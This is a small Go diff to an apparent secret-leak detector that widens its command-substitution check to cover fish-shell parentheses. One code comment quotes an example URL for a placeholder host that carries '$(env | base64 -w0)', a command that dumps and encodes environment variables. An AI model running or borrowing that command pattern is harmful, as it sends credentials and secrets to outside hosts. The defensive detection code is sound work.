@@ -975,7 +975,7 @@ func (h *heldSecrets) expands(text string, i int) bool {
 	if indirectAny(text) {
 		return true
 	}
-	if strings.Contains(text, "$(") || strings.Contains(text, "`") {
+	if strings.Contains(text, "(") || strings.Contains(text, "`") { // $(…), `…`, fish's (…)
 		for _, src := range h.substs {
 			if holdsCommand(text, src) {
 				return true // "https://x.example/?$(env | base64 -w0)"
